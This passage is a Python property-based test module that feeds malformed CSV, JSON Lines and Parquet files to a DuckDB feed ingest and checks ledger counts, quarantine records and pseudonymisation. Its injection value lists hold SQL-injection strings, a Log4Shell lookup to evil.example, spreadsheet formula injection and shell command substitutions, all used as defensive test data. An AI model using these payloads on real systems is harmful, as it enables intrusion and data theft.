"""Property-based tests: malformed landing files never break the ingest's bookkeeping.

Hypothesis generates whole landing folders (one to three files per example)
for the orders feed (CSV), the carriers feed (JSON Lines), and the inventory
and suppliers feeds (CSV, JSON Lines, Parquet). The files are malformed on
purpose: wrong types, missing, extra, duplicated and shuffled columns, header
case/whitespace/BOM variations, Latin-1 / UTF-16 / random bytes, truncated
bodies, ragged rows, empty and header-only files, duplicate keys, huge and
zero/negative numbers, injection-looking strings, null bytes, newlines inside
quoted fields, and odd file names (spaces, unicode, glob characters, `..`,
names close to the 255-byte limit).

Every example runs in its own temporary folder with its own DuckDB file, and
for every file the ingest sees it checks:

* nothing escapes `ingest_file`: a bad file is a 'rejected' FileResult;
* exactly one ledger row per file ingested (none for a skipped one), with
  rows_received = rows_loaded + rows_quarantined + rows_rejected + rows_duplicate;
* the raw table grows by exactly rows_loaded (and no other raw table moves),
  audit.quarantine by exactly rows_quarantined; every quarantine row has a
  documented reason_code, a reason and a record that is valid JSON; loaded and
  quarantined row numbers are distinct rows of the file;
* every loaded row meets its contract (required values present, allowed
  values, ranges, non-zero quantities), keys are unique within a file, rows
  come from the file they are attributed to, customer ids are pseudonymised;
* a rejected file is moved to landing/rejected/<feed>/ with a .reason.txt;
* no SQL from the data ran: the raw/audit tables and a canary table created
  beforehand all still exist, with counts changed only by the loads;
* nothing is written outside the example's landing folder (and warehouse), and
  the ingest's own temporary files (the system temp folder is pointed into the
  example's folder) are gone afterwards;
* ingesting the same landing again changes nothing;
* (orders) a rejected file sent again under the same name, changed, is
  ingested like a new file and the first rejected copy is kept.

More properties check semantics on valid data: rows written in any supported
encoding (UTF-8 with or without BOM, UTF-16 either byte order, Latin-1,
Windows-1252) and delimiter load with their text as written; an overlapping
re-export (some rows repeated, some changed, some new, columns reordered,
CRLF) skips the repeats and loads the changes as new versions; and exports that
arrive out of order leave the later-dated one as the latest version.

Bugs. Each bug these tests found has a minimal reproduction at the end of this
module (`test_bug_*`). While a bug is open it is listed in KNOWN_BUGS: its
reproduction is a strict xfail, and a property-test failure that matches the
bug's precise signature is counted (see the summary printed at the end of the
module) instead of failing the example, so the property tests keep guarding
everything else. Once fixed, the entry is deleted: the reproduction becomes a
regression test and the property tests are strict about it again.

Run with `pytest -s tests/test_feeds_properties.py` to see the number of
generated files tried. The examples are derandomized (the same files on every
run); shrinking is off unless CROSSDOCK_PROPS_SHRINK=1 (see PHASES).
"""
from __future__ import annotations

import codecs
import collections
import datetime as dt
import errno
import functools
import hashlib
import hmac
import io
import json
import os
import re
import tempfile
from dataclasses import dataclass, field
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from feeds.audit import ensure_schema
from feeds.contracts import CONTRACTS, ORDERS, Column, Contract, contracts_for_feed
from feeds.ingest import FileResult, ingest_feed, ingest_file
from feeds.landing_folder import landing_files
from feeds.plausibility import REASON_CODES as PLAUSIBILITY_CODES
from feeds.landed import LANDING_REASON_CODES

SALT = "prop-salt"
REASON_CODES = {"missing_value", "bad_type", "missing_timezone", "not_allowed", "out_of_range", "zero_quantity", "negative_sale", "duplicate_key",
                *PLAUSIBILITY_CODES, *LANDING_REASON_CODES}
GLOB_CHARS = ("*", "?", "[")
HEX64 = re.compile(r"^[0-9a-f]{64}$")
PSEUDONYM = re.compile(r"^sha256:[0-9a-f]{64}$")  # how a customer id may appear in audit.quarantine

# --------------------------------------------------------------------------------------------
# Confirmed bugs (see the strict xfail tests at the end). Delete an entry once it is fixed.
# --------------------------------------------------------------------------------------------
KNOWN_BUGS: dict[str, str] = {
    # All eleven bugs these tests found in the first version (unreadable file aborting the
    # transaction, order_date cast crash, BIGINT overflow loaded as null, key text variants,
    # glob characters in file names, over-long reason file names, PII in quarantine records,
    # Latin-1 after the first MiB, UTF-16 BE, JSON values re-typed, a file named "rejected")
    # are fixed; their reproductions below now run as plain tests. So is a twelfth found in the
    # fixes (a file with a UTF-16 BOM that is not valid UTF-16 raised UnicodeDecodeError).
    # A thirteenth, found in the fixed code (any 'sha256:' prefix passed through as a
    # pseudonym), is fixed too: only 'sha256:' + 64 hex digits is taken as one.
    # A fourteenth (a file name that is not UTF-8 on disk made the ledger insert raise and
    # blocked the feed) is fixed: such names are stored with their bad bytes as \xNN.
    # Also fixed since: a second rejection of a very long name (the renamed target did not
    # fit a file name), non-UTF-8 suffixes in messages, and Windows-1252 files (0x80-0x9F).
}


def known(bug: str) -> bool:
    return bug in KNOWN_BUGS


def xfail_bug(bug: str):
    """Strict xfail while the bug is listed; a plain test once its entry is deleted."""
    if known(bug):
        return pytest.mark.xfail(strict=True, reason=KNOWN_BUGS[bug])
    return lambda test: test


# --------------------------------------------------------------------------------------------
# Counters for the report
# --------------------------------------------------------------------------------------------
STATS: dict[str, collections.Counter] = {
    "files": collections.Counter(),  # generated files tried, per feed
    "handmade": collections.Counter(),  # files of the deterministic examples and bug reproductions, per feed
    "outcome": collections.Counter(),  # loaded / rejected / skipped / crash:<bug>
    "bug_hits": collections.Counter(),  # known-bug signatures seen in generated files
    "examples": collections.Counter(),  # per test
}


@pytest.fixture(scope="module", autouse=True)
def report_generated_file_count(request):
    yield
    total = sum(STATS["files"].values())
    generated_landings = sum(v for k, v in STATS["examples"].items() if k != "deterministic")
    lines = [
        "",
        f"[test_feeds_properties] generated files tried: {total} "
        f"({', '.join(f'{k} {v}' for k, v in sorted(STATS['files'].items()))}) "
        f"in {generated_landings} generated landings; plus {sum(STATS['handmade'].values())} hand-written files",
        f"[test_feeds_properties] first-pass outcomes: {dict(sorted(STATS['outcome'].items()))}",
        f"[test_feeds_properties] known-bug signatures hit: {dict(sorted(STATS['bug_hits'].items()))}",
    ]
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    for line in lines:
        if reporter is not None:
            reporter.write_line(line)
        else:  # pragma: no cover
            print(line)


# --------------------------------------------------------------------------------------------
# Generated files
# --------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class GenFile:
    name: str
    data: bytes
    # values written for the file's provenance column (a tagged key column): a loaded row's value
    # must be one of them or at least appear in the file's text
    provenance: frozenset[str] = frozenset()
    feed: str = "orders"
    # orders: the local calendar days written in ordered_at (order_date must be one of them)
    local_days: frozenset[str] | None = None


INJECTIONS = (
    "'); drop table raw.orders; --",
    '" or 1=1 --',
    "${jndi:ldap://evil.example/a}",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; attach '/tmp/pwn.duckdb' as pwn; --",
    "x'); copy raw.orders to '/tmp/leak.csv'; --",
    "1; drop table main.canary",
    "Robert'); DROP TABLE audit.ingest_ledger;--",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "$(touch /tmp/pwned)",
)
NASTY_VALUES = INJECTIONS + (
    "", " ", "  \t ", "NULL", "null", "None", "N/A", "-", "abc", "1.5", "1,5", "1e3", "1e300", "-1e300",
    "99999999999999999999", "-99999999999999999999", "9223372036854775807", "9223372036854775808",
    "0", "-0", "+0", "00", "01", "+1", "-1", "-10000", "-10001", "10000", "10001", "NaN", "inf", "-inf",
    "true", "FALSE", "2025-13-45", "2025-01-03", "2025-01-03T10:00:00", "2025-01-03T10:00:00Z",
    "2025-1-3 10:00:00Z", "99999-01-01T00:00:00Z", "2025/01/03 10:00:00+01", "infinity", "epoch",
    "\x00", "a\x00b", "line\nbreak", "cr\rlf", "crlf\r\nx", 'quote"inside', '"', "semi;colon", "tab\tsep",
    "pipe|x", "comma,x", "Zoë Müller", "日本語", "🙂", "\u202eevil", "\ufeffbom", "x" * 3000, "web ", " WEB",
    "EUR ", "eur", "de", "sale", "Sale",
)
# values that are nearly right for a column of the type: the edges of the checks
TYPED_NASTY = {
    "integer": ("99999999999999999999", "-99999999999999999999", "9223372036854775808", "9223372036854775807",
                "01", "+1", "007", "-0", "+0", "0", "1.0", "1e3", "1,000", " 1 ", "١", "0x10", "-10001", "10001"),
    "decimal": ("1e300", "-1e300", "99999999999999999999", "1e15", "0.00001", "-0.01", "-0", "NaN", "inf", "1,5", "1.2.3", "$5"),
    "double": ("1e300", "-1e300", "1e400", "NaN", "inf", "-inf", "-0.0", "-1", "1,5"),
    "date": ("2025-1-6", "2025/01/06", "06/01/2025", "2025-02-30", "99999-01-01", "-2025-01-01", "2025-01-06T10:00:00Z",
             "20250106", "epoch", "infinity", "0000-00-00"),
    "timestamptz": ("2025-1-3 10:00:00Z", "2025-01-3T10:00:00Z", "99999-01-01T00:00:00Z", "-2025-01-01 00:00:00Z",
                    "2025/01/03 10:00:00+01", "2025-01-03T10:00:00", "2025-01-03", "2025-01-03T25:00:00Z", "infinity",
                    "epoch", "2025-01-03 10:00:00 Europe/Berlin", "2025-01-03T10:00:00+25:00", "2025-01-03T10:00:00+01:00:00"),
    "boolean": ("yes", "no", "Y", "2", "-1", "vrai", "t ", ""),
    "varchar": ("", " ", "\x00", "x" * 3000),
}
EXTRA_COLUMNS = (
    "colour", "qty", "note", "reason_code", "_row_number", "_record", "_rank_in_key", "record", "", " ",
    "quantity", "QUANTITY", " Order_ID", "customer_id", "order id", 'a"b', "a'b", "x;y",
    "'); drop table raw.orders; --", '" or 1=1 --', "${jndi:ldap://x}", "=cmd|'/c calc'!A1", "col\x00nul",
    "naïve", "列", "a" * 300,
)
NAME_MIDDLES = (
    "", "_2025-01", "_2025-01-03", " with spaces ", "  ", "_ünïcødé_日本_🙂", "_../../x", "_..\\..\\x", "_..", "_..\u2215..\u2215x",
    "_'); drop table raw.orders; --", '_" or 1=1 --', "_${jndi:ldap:__x}", "_=cmd|'_c calc'!A1", "_$(whoami)",
    "_M\udcfcller", "_\udcff\udcfe", "_`id`", "_%s%n%x", "_\nnewline", "_\ttab", "_*", "_?", "_[x]", "_{a,b}", "_~", "_#1", "_&_|_>",
)
NON_MATCHING_NAMES = ("notes.csv", "x_orders.csv", "rejected", "README", "data.csv", ".hidden_orders.csv", "-orders.csv")
SUFFIXES = (".csv", ".csv", ".csv", ".CSV", ".txt", ".tsv", ".jsonl", ".ndjson", ".json", ".parquet", "", ".csv.gz", ".exe", ".csv ", ".csv.")


def fit_name(name: str, limit: int = 255) -> str:
    """Shorten a file name (keeping its end) to at most `limit` bytes on disk; no '/' or NUL."""
    name = name.replace("/", "_").replace("\x00", "_")
    while len(os.fsencode(name)) > limit:
        name = name[:-6] + name[-5:] if len(name) > 6 else name[:-1]
    return name or "_"


@st.composite
def file_names(draw, contract: Contract, feed: str, suffix_for_format: str = ".csv") -> str:
    # the common case first: Hypothesis favours small choices
    kind = draw(st.integers(0, 99))
    if kind >= 96:
        return draw(st.sampled_from(NON_MATCHING_NAMES))
    prefixes = [c.file_prefix for c in contracts_for_feed(feed)]
    prefix = contract.file_prefix if kind < 90 else draw(st.sampled_from(prefixes))
    prefix = draw(st.sampled_from([prefix, prefix, prefix.upper(), prefix.title()]))
    middle = draw(st.one_of(
        st.sampled_from(NAME_MIDDLES),
        st.text(st.characters(exclude_categories=("Cs",), exclude_characters="/\x00"), max_size=12),
    ))
    if draw(st.integers(0, 9)) == 9:  # glob characters: DuckDB's readers treat the path as a pattern
        middle = draw(st.sampled_from(["_*", "*", "_?", "?", "_[x]", "_[0-9]*", "_**"]))
    suffix = suffix_for_format if draw(st.integers(0, 99)) < 75 else draw(st.sampled_from(SUFFIXES))
    if draw(st.integers(0, 19)) == 19:  # long names, up to the 255-byte limit
        total = draw(st.integers(200, 255))
        filler = total - len(os.fsencode(prefix + middle + suffix))
        middle += "x" * max(filler, 0)
    return fit_name(prefix + middle + suffix)


@functools.cache  # one strategy per column and file tag: a new one would be validated again at each draw
def valid_value(col: Column, tag: str) -> st.SearchStrategy[str]:
    """A realistic value that meets the column's contract."""
    if col.allowed is not None:
        return st.sampled_from(col.allowed)
    if col.type == "integer":
        lo = int(col.min_value) if col.min_value is not None else -50
        hi = int(col.max_value) if col.max_value is not None else lo + 60
        if col.name in ("line_id", "po_line"):
            hi = lo + 4  # small keys: duplicate keys happen
        return st.integers(lo, hi).filter(lambda v: v != 0 or not col.nonzero).map(str)
    if col.type in ("decimal", "double"):
        return st.integers(0, 999_999).map(lambda c: f"{c / 100:.2f}")
    if col.type == "date":
        return st.dates(dt.date(2024, 1, 1), dt.date(2026, 12, 31)).map(lambda d: d.isoformat())
    if col.type == "timestamptz":
        return st.tuples(
            st.datetimes(dt.datetime(2024, 1, 1), dt.datetime(2026, 12, 31)),
            st.sampled_from(["Z", "+00:00", "+01:00", "-05:00", "+05:30", "+0530", "+09"]),
            st.sampled_from(["T", " "]),
        ).map(lambda t: t[0].replace(microsecond=0).isoformat(sep=t[2]) + t[1])
    if col.type == "boolean":
        return st.sampled_from(["true", "false", "TRUE", "f", "1", "0"])
    if col.pii:
        return st.sampled_from(["alice@example.com", "C-1001", "bob.smith@example.org", "C-2002", "zoë@example.de",
                                "sha256:" + "ab" * 32, "sha256:carol@example.com", "SHA256:dave@example.com", "sha256:"])
    return st.integers(0, 40).map(lambda n, p=col.name[:3].upper(), t=tag: f"{p}-{t}{n}")


@functools.lru_cache(maxsize=4096)
def variant_of(value: str) -> st.SearchStrategy[str]:
    """The same value written another way: padding, case, sign/zero prefixes."""
    options = [f" {value}", f"{value} ", f"\t{value}", value.upper(), value.lower(), value.title()]
    if re.fullmatch(r"[0-9]+", value):
        options += [f"0{value}", f"+{value}", f"00{value}", f"{value}.0"]
    if re.fullmatch(r"\d{4}-\d{2}-\d{2}", value):
        options += [value.replace("-", "/"), value + " 00:00:00"]
    return st.sampled_from(options)


@st.composite
def cell(draw, col: Column, tag: str, dirt: int) -> str:
    if draw(st.integers(0, 99)) >= dirt:
        return draw(valid_value(col, tag))
    branch = draw(st.integers(0, 9))
    if branch < 3:
        return draw(st.sampled_from(TYPED_NASTY[col.type]))
    if branch < 5:
        return draw(st.sampled_from(NASTY_VALUES))
    if branch < 8:
        return draw(valid_value(col, tag).flatmap(variant_of))
    return draw(st.text(max_size=12))


@dataclass
class Table:
    header: list[str]
    rows: list[list[str]]
    provenance_col: str | None
    provenance: set[str] = field(default_factory=set)
    local_days: set[str] | None = None


def provenance_column(contract: Contract) -> str:
    return next(k for k in contract.key if contract.column(k).type == "varchar")


@st.composite
def tables(draw, contract: Contract, tag: str, reuse: list[dict[str, str]]) -> tuple[Table, list[dict[str, str]]]:
    """A header (with mutations) and rows of cells, as text; also returns the rows as dicts."""
    names = tuple(c.name for c in contract.columns)  # a tuple: Hypothesis reuses sampled_from(names)
    mode = draw(st.integers(0, 99))
    if mode >= 88:  # drop a required column (-> rejected) or several
        drop = draw(st.lists(st.sampled_from(names), min_size=1, max_size=3, unique=True))
    elif mode >= 70:  # drop optional columns only
        drop = [c.name for c in contract.columns if not c.required and draw(st.booleans())]
    else:
        drop = []
    columns = [n for n in names if n not in drop]
    extras = draw(st.lists(st.sampled_from(EXTRA_COLUMNS), min_size=1, max_size=2)) if draw(st.integers(0, 3)) == 3 else []
    order = draw(st.permutations(columns + extras)) if draw(st.booleans()) else columns + extras

    def spell(name: str) -> str:
        return draw(st.sampled_from((name, name, name, name.upper(), name.title(), f" {name} ", f"{name}\t", name.capitalize())))

    header = [spell(n) for n in order]
    dirt = draw(st.sampled_from([0, -1, 5, -1, 20, 60]))  # % of bad cells; -1: exactly one bad cell per row
    by_name = {c.name: c for c in contract.columns}
    dict_rows: list[dict[str, str]] = []
    if reuse and draw(st.booleans()):  # an overlapping export: some rows of an earlier file again
        for old in draw(st.lists(st.sampled_from(reuse), max_size=4)):
            row = dict(old)
            if draw(st.booleans()) and "quantity" in row:
                row["quantity"] = draw(valid_value(by_name["quantity"], tag))
            dict_rows.append(row)
    for _ in range(draw(st.integers(0, 6))):
        if dirt >= 0:
            dict_rows.append({n: draw(cell(by_name[n], tag, dirt)) for n in names})
        else:  # a single fault: every other value is valid, so the faulty one decides the row's fate
            row = {n: draw(valid_value(by_name[n], tag)) for n in names}
            n = draw(st.sampled_from(names))
            row[n] = draw(cell(by_name[n], tag, 100))
            dict_rows.append(row)
        if dict_rows and draw(st.integers(0, 5)) >= 4:  # a duplicate key later in the file
            dup = dict(draw(st.sampled_from(dict_rows)))
            for n in names:
                if n in contract.key and draw(st.integers(0, 3)) == 3:  # the same key, written another way
                    dup[n] = draw(variant_of(dup[n]))
                elif n not in contract.key and draw(st.booleans()):
                    dup[n] = draw(cell(by_name[n], tag, max(dirt, 0)))
            dict_rows.append(dup)
    rows = [[r[n] if n in r else draw(st.sampled_from(NASTY_VALUES + ("x", "1"))) for n in order] for r in dict_rows]
    pcol = provenance_column(contract)
    # as the ingest sees them: SQL trim() strips spaces only
    local_days = {r["ordered_at"].strip(" ")[:10] for r in dict_rows} if contract is ORDERS else None
    sent = {r[pcol] for r in dict_rows if pcol in r} | {r[pcol].strip(" ") for r in dict_rows if pcol in r}
    return Table(header, rows, pcol, sent, local_days), dict_rows


def encode_text(text: str, encoding: str) -> bytes:
    if encoding == "utf-8-sig":
        return codecs.BOM_UTF8 + text.encode("utf-8")
    if encoding == "utf-16":
        return text.encode("utf-16")  # BOM + little-endian
    if encoding == "utf-16-be-bom":
        return codecs.BOM_UTF16_BE + text.encode("utf-16-be")
    return text.encode(encoding, errors="replace")


def csv_bytes(draw, table: Table) -> bytes:
    delimiter = draw(st.sampled_from([",", ",", ";", "\t", "|"]))
    quote_all = draw(st.booleans())
    newline = draw(st.sampled_from(["\n", "\r\n"]))
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8", "utf-8", "utf-8-sig", "latin-1", "cp1252", "utf-16"]))
    if encoding == "utf-16" and draw(st.booleans()):
        encoding = "utf-16-be-bom"

    def field_text(v: str) -> str:
        if quote_all or any(ch in v for ch in (delimiter, '"', "\n", "\r")) or v != v.strip():
            return '"' + v.replace('"', '""') + '"'
        return v

    lines = [delimiter.join(field_text(h) for h in table.header)]
    for row in table.rows:
        cells = [field_text(v) for v in row]
        ragged = draw(st.integers(0, 24))
        if ragged == 24:
            cells.append("extra")
        elif ragged == 23 and cells:
            cells.pop()
        lines.append(delimiter.join(cells))
    text = newline.join(lines) + (newline if draw(st.booleans()) else "")
    return encode_text(text, encoding)


def jsonl_bytes(draw, table: Table) -> bytes:
    lines = []
    for row in table.rows:
        obj = {}
        for h, v in zip(table.header, row):
            kind = draw(st.integers(0, 19))
            if kind == 19:
                obj[h] = draw(st.one_of(st.none(), st.booleans(), st.integers(-(2**70), 2**70), st.floats(allow_nan=False),
                                        st.sampled_from([1e300, -0.0, 99999999999999999999, [], [1, "a"], {"a": {"b": 1}}])))
            else:
                obj[h] = v
        line = json.dumps(obj, ensure_ascii=draw(st.booleans()))
        if draw(st.integers(0, 29)) == 29:
            line = draw(st.sampled_from(["{broken", "[1, 2]", "null", "", "   ", '{"a": NaN}', line + ",", line[:-1]]))
        lines.append(line)
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8", "utf-8-sig", "latin-1", "utf-16"]))
    return encode_text("\n".join(lines) + ("\n" if draw(st.booleans()) else ""), encoding)


def parquet_bytes(table: Table) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    seen: dict[str, int] = {}
    names = []
    for h in table.header:  # parquet wants distinct names
        n = h if h not in seen else f"{h}_{seen[h]}"
        seen[h] = seen.get(h, 0) + 1
        names.append(n)
    arrays = [pa.array([r[i] for r in table.rows], type=pa.string()) for i in range(len(names))]
    buffer = io.BytesIO()
    pq.write_table(pa.table(arrays, names=names), buffer)
    return buffer.getvalue()


@st.composite
def mutate(draw, data: bytes) -> bytes:
    kind = draw(st.integers(0, 99))
    if kind < 78:
        return data
    if kind < 82:
        return data[: draw(st.integers(0, len(data)))]
    if kind < 86:
        return data + draw(st.binary(min_size=1, max_size=40))
    if kind < 89:
        at = draw(st.integers(0, len(data)))
        return data[:at] + draw(st.binary(min_size=1, max_size=20)) + data[at:]
    if kind < 93:
        return draw(st.binary(max_size=300))
    if kind < 95:
        return b""
    if kind < 97:
        return codecs.BOM_UTF8 + data
    return data.replace(b",", b",\x00", 1)


@st.composite
def landings(draw, feed: str, formats: tuple[str, ...], contracts: tuple[Contract, ...] | None = None) -> list[GenFile]:
    """One to three files for a feed's landing folder, sharing some rows (overlapping exports)."""
    contracts = contracts or contracts_for_feed(feed)
    files: list[GenFile] = []
    used: set[str] = set()
    reuse: dict[str, list[dict[str, str]]] = collections.defaultdict(list)
    for i in range(draw(st.integers(1, 3))):
        contract = draw(st.sampled_from(contracts))
        table, dict_rows = draw(tables(contract, f"F{i}x", reuse[contract.dataset]))
        reuse[contract.dataset].extend(dict_rows)
        fmt = draw(st.sampled_from(formats))
        if fmt == "csv":
            data = csv_bytes(draw, table)
        elif fmt == "jsonl":
            data = jsonl_bytes(draw, table)
        else:
            data = parquet_bytes(table)
        mutated = draw(mutate(data))
        data_unchanged, data = mutated == data, mutated
        name = draw(file_names(contract, feed, {"csv": ".csv", "jsonl": ".jsonl", "parquet": ".parquet"}[fmt]))
        if name in used:
            continue
        used.add(name)
        local_days = frozenset(table.local_days) if table.local_days is not None and data_unchanged else None
        files.append(GenFile(name, data, frozenset(table.provenance), feed, local_days))
    return files


# --------------------------------------------------------------------------------------------
# The harness: ingest a generated landing twice and check every property
# --------------------------------------------------------------------------------------------
SNAPSHOT_TABLES = {"ledger": "audit.ingest_ledger", "quarantine": "audit.quarantine", "canary": "main.canary",
                   **{c.table: c.table for c in CONTRACTS}}
# every count in one statement (a union, ~3x faster than a statement per table; scalar subqueries are ~7x
# slower): the harness takes a snapshot around each file it ingests, ~1,000 per run of the module
SNAPSHOT_SQL = " union all ".join(f"select '{key}', count(*) from {table}" for key, table in SNAPSHOT_TABLES.items())


def snapshot(conn) -> dict[str, int]:
    return dict(conn.execute(SNAPSHOT_SQL).fetchall())


def table_set(conn) -> set[tuple[str, str]]:
    return {
        (s, t)
        for s, t in conn.execute("select schema_name, table_name from duckdb_tables() where not temporary").fetchall()
    }


def tree(root: Path) -> dict[str, bytes | None]:
    return {str(p.relative_to(root)): (p.read_bytes() if p.is_file() else None) for p in sorted(root.rglob("*"))}


def known_crash(exc: BaseException, path: Path, feed: str) -> str | None:
    """The known bug an exception from ingest_file is the precise signature of, if any."""
    text = str(exc)
    if isinstance(exc, duckdb.TransactionException) and "transaction is aborted" in text.lower():
        bug = "unreadable_file_aborts_transaction"
    elif isinstance(exc, duckdb.ConversionException) and "date field" in text and feed == "orders":
        bug = "order_date_cast_crash"
    elif isinstance(exc, OSError) and exc.errno == errno.ENAMETOOLONG and text.count(".reason.txt"):
        bug = "reason_file_name_too_long"
    elif isinstance(exc, OSError) and exc.errno == errno.ENAMETOOLONG:
        bug = "rejected_long_name_collision"
    elif isinstance(exc, FileExistsError) and (path.parent / "rejected").is_file():
        bug = "landing_file_named_rejected"
    elif isinstance(exc, UnicodeDecodeError) and "utf-16" in text:
        bug = "invalid_utf16_crashes"
    elif isinstance(exc, (duckdb.InvalidInputException, UnicodeEncodeError)) and "surrogate" in text and not is_utf8(path.name):
        bug = "non_utf8_file_name"
    else:
        return None
    return bug if known(bug) else None


def note_bug(bug: str, failures: list[str], message: str) -> None:
    if known(bug):
        STATS["bug_hits"][bug] += 1
    else:
        failures.append(message)


def check_loaded_rows(conn, contract: Contract, gen: GenFile, file_id: str, texts: list[str], failures: list[str]) -> None:
    table = contract.table
    where = "_file_id = ?"
    # every loaded row meets its contract
    for col in contract.columns:
        t = f'"{col.target_name}"'
        conditions = []
        if col.required:
            empty_allowed = col.empty_allowed_sql(lambda name: f'"{contract.column(name).target_name}"')
            unless = "" if empty_allowed is None else f" and not coalesce({empty_allowed}, false)"
            conditions.append(("required", f"{t} is null{unless}"))
        if col.allowed is not None:
            allowed = ", ".join("'" + a.replace("'", "''") + "'" for a in col.allowed)
            conditions.append(("allowed", f"{t} not in ({allowed})"))
        if col.min_value is not None:
            conditions.append(("min", f"{t} < {col.min_value}"))
        if col.max_value is not None:
            conditions.append(("max", f"{t} > {col.max_value}"))
        if col.nonzero:
            conditions.append(("nonzero", f"{t} = 0"))
        for what, cond in conditions:
            bad = conn.execute(f"select count(*) from {table} where {where} and {cond}", [file_id]).fetchall()[0][0]
            if bad:
                message = f"{gen.name!r}: {bad} loaded rows break {col.name} ({what})"
                if what == "required" and col.type == "integer":
                    note_bug("integer_overflow_loaded_as_null", failures, message)
                else:
                    failures.append(message)
    for rule in contract.row_rules:  # and its rules over several columns
        stored = rule.sql(lambda name: f'"{contract.column(name).target_name}"')
        bad = conn.execute(f"select count(*) from {table} where {where} and {stored}", [file_id]).fetchall()[0][0]
        if bad:
            failures.append(f"{gen.name!r}: {bad} loaded rows break {rule.code}")
    for derived in contract.derived:
        bad = conn.execute(f'select count(*) from {table} where {where} and "{derived.name}" is null', [file_id]).fetchall()[0][0]
        if bad:
            failures.append(f"{gen.name!r}: {bad} loaded rows without derived {derived.name}")
    # keys are unique among the rows loaded from one file
    keys = ", ".join(f'"{contract.column(k).target_name}"' for k in contract.key)
    dups = conn.execute(
        f"select count(*), bool_or({' or '.join(f'{k} is null' for k in keys.split(', '))}) from "
        f"(select {keys}, count(*) as n from {table} where {where} group by all having n > 1) as d",
        [file_id],
    ).fetchall()[0]
    if dups[0]:
        message = f"{gen.name!r}: {dups[0]} keys loaded more than once from one file"
        note_bug("integer_overflow_loaded_as_null" if dups[1] else "key_text_variants_not_deduplicated", failures, message)
    # rows come from this file
    pcol = provenance_column(contract)
    strangers = [
        v
        for (v,) in conn.execute(f'select distinct "{pcol}" from {table} where {where}', [file_id]).fetchall()
        if v is not None
        and v not in gen.provenance
        and not any(v in t or v.replace('"', '""') in t or json.dumps(v)[1:-1] in t for t in texts)
        and not nested_json_written(v, texts)
    ]
    if strangers:
        message = f"{gen.name!r}: loaded {pcol} values that are not in the file: {strangers[:3]}"
        if any(ch in gen.name for ch in GLOB_CHARS):
            note_bug("glob_characters_in_file_name", failures, message)
        elif is_json(gen) and all(json_rendering(v) for v in strangers):
            note_bug("json_values_retyped", failures, message)
        else:
            failures.append(message)
    # the local day is the day written in the file
    if gen.local_days is not None:
        days = [str(d) for (d,) in conn.execute(f"select distinct order_date from {table} where {where}", [file_id]).fetchall()]
        foreign = [d for d in days if d not in gen.local_days]
        if foreign:
            message = f"{gen.name!r}: order_date {foreign[:3]} is not a day written in ordered_at ({sorted(gen.local_days)[:5]})"
            if is_json(gen):
                note_bug("json_values_retyped", failures, message)
            elif any(ch in gen.name for ch in GLOB_CHARS):
                note_bug("glob_characters_in_file_name", failures, message)
            else:
                failures.append(message)
    # customer ids are pseudonymised
    if contract is ORDERS:
        columns = {r[0] for r in conn.execute(f"describe {table}").fetchall()}
        if "customer_id" in columns:
            failures.append("raw.orders has a customer_id column")
        for (key,) in conn.execute(f"select distinct customer_key from {table} where {where}", [file_id]).fetchall():
            if key is not None and not HEX64.match(key):
                message = f"{gen.name!r}: customer_key {key!r} is not a SHA-256 pseudonym"
                if key.startswith("sha256:") or gen.data.lower().count(b"sha256:"):
                    note_bug("pii_prefix_passthrough", failures, message)
                else:
                    failures.append(message)


DUCKDB_TEMPORAL_TEXT = re.compile(r"^-?\d{4,}-\d{2}-\d{2}( \d{2}:\d{2}:\d{2}(\.\d+)?([+-]\d{2}(:\d{2})?)?)?( \(BC\))?$")


def json_rendering(value: str) -> bool:
    """Text DuckDB makes of a typed JSON value: a timestamp or date, a number, or JSON itself."""
    if DUCKDB_TEMPORAL_TEXT.match(value):
        return True
    try:
        json.loads(value)
        return True
    except ValueError:
        return False


def nested_json_written(value: str, texts: list[str]) -> bool:
    """A JSON array or object read into a text column comes back compact ('[1,"a"]' for '[1, "a"]'): the same value."""
    try:
        parsed = json.loads(value)
    except ValueError:
        return False
    if not isinstance(parsed, (list, dict)):
        return False
    return any(json.dumps(parsed, ensure_ascii=ascii_only) in t for ascii_only in (True, False) for t in texts)


def is_json(gen: GenFile) -> bool:
    return Path(gen.name).suffix.lower() in (".jsonl", ".ndjson", ".json")


def check_quarantine(conn, contract: Contract | None, result: FileResult, gen: GenFile, failures: list[str]) -> None:
    rows = conn.execute(
        "select row_number, reason_code, reason, record, dataset from audit.quarantine where file_id = ? order by row_number",
        [result.file_id],
    ).fetchall()
    if len(rows) != result.rows_quarantined:
        failures.append(f"{gen.name!r}: {len(rows)} quarantine rows for rows_quarantined={result.rows_quarantined}")
    pii_leak = False
    for row_number, code, reason, record, dataset in rows:
        if code not in REASON_CODES:
            failures.append(f"{gen.name!r}: row {row_number} has undocumented reason_code {code!r}")
        if not reason or not reason.strip():
            failures.append(f"{gen.name!r}: row {row_number} has an empty reason")
        if dataset != result.dataset:
            failures.append(f"{gen.name!r}: quarantine dataset {dataset!r} != {result.dataset!r}")
        if not 1 <= row_number <= result.rows_received:
            failures.append(f"{gen.name!r}: quarantine row_number {row_number} outside 1..{result.rows_received}")
        try:
            parsed = json.loads(record)
        except (TypeError, ValueError) as exc:
            failures.append(f"{gen.name!r}: row {row_number} record is not valid JSON ({exc}): {record!r:.200}")
            continue
        if not isinstance(parsed, dict):
            failures.append(f"{gen.name!r}: row {row_number} record is not a JSON object: {record!r:.200}")
            continue
        if contract is not None:
            for k, v in parsed.items():
                col = next((c for c in contract.columns if c.name == k.strip().lstrip("\ufeff").lower()), None)
                if col is not None and col.pii and isinstance(v, str) and v.strip() and not PSEUDONYM.match(v):
                    pii_leak = True  # only the 'sha256:<64 hex digits>' form may be kept
    if pii_leak:
        message = f"{gen.name!r}: a customer_id is stored in clear in audit.quarantine"
        note_bug("pii_prefix_passthrough" if gen.data.lower().count(b"sha256:") else "pii_in_quarantine_record", failures, message)
    numbers = [r[0] for r in rows]
    if len(set(numbers)) != len(numbers):
        failures.append(f"{gen.name!r}: a row is quarantined twice")
    if contract is not None and result.status == "loaded":
        loaded_numbers = {
